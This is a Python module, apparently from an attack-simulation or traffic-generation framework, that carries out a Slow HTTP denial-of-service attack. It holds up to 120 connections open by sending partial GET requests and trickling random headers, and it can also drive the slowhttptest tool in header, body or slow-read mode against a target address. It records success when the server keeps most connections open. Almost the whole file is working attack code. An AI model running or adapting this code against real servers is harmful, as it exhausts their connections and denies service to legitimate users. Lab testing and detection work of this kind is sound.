"""Slow HTTP: many connections that never finish a request, or never read its answer."""

from __future__ import annotations

import asyncio
import re
import time

import common_net
from common import FAILURES, Session, emit, main, word
from common_tool import home, run_tool

MAX_CONNECTIONS = 120
LONG_S = 3.0  # a server that holds half of the connections this long is being worn down
MODES = {"headers": "-H", "body": "-B", "read": "-X"}


async def act(session: Session) -> None:
    """Hold connections; the effect is that the server keeps most of them open."""
    if session.params["variant"] == "own":
        await _ours(session)
    else:
        _by_tool(session, MODES[str(session.params["variant"])])


async def _ours(session: Session) -> None:
    count = min(int(session.params["connections"]), MAX_CONNECTIONS)
    held: list[float] = []

    async def hold(number: int) -> None:
        began = time.monotonic()
        await asyncio.sleep(number / float(session.params["rate_s"]))
        try:
            _, writer = await common_net.connect(session, session.port)
        except FAILURES:
            return  # the server has had enough of us
        try:
            host = word(session.rng)
            writer.write(f"GET /{word(session.rng)} HTTP/1.1\r\nHost: {host}\r\n".encode())
            began = time.monotonic()
            gap_s = float(session.params["gap_s"])
            while await session.sleep(session.rng.uniform(0.5, 1.5) * gap_s):
                writer.write(f"X-{word(session.rng)}: {word(session.rng)}\r\n".encode())
                await writer.drain()
        except FAILURES:
            return
        finally:
            held.append(time.monotonic() - began)
            await common_net.disconnect(writer, session.rng)

    try:
        await asyncio.gather(*(hold(number) for number in range(count)))
    finally:
        long = sum(held_s >= min(LONG_S, session.duration_s / 3) for held_s in held)
        emit("effect", success=long > count / 2, connections=count, held=long)


def _by_tool(session: Session, mode: str) -> None:
    count = min(int(session.params["connections"]), MAX_CONNECTIONS)
    seconds = max(int(session.left_s() - 3), 2)
    url = f"http://{session.peer['address']}:{session.port}/product/{word(session.rng)}"
    held = 0
    try:
        with home() as folder:
            command = ["slowhttptest", "-c", str(count), mode, "-u", url, "-l", str(seconds)]
            command += ["-r", str(int(session.params["rate_s"])), "-p", "2"]
            command += ["-i", str(max(int(session.params["gap_s"]), 1))]
            if mode == "-X":
                command += ["-w", "10", "-y", "20", "-n", "1", "-z", "8"]
            said = run_tool(session, command, folder, fine=None).output
        held = max((int(n) for n in re.findall(r"connected:\s+(\d+)", said)), default=0)
    finally:
        emit("effect", success=held > count / 2, connections=count, held=held)


if __name__ == "__main__":
    main(None, act)
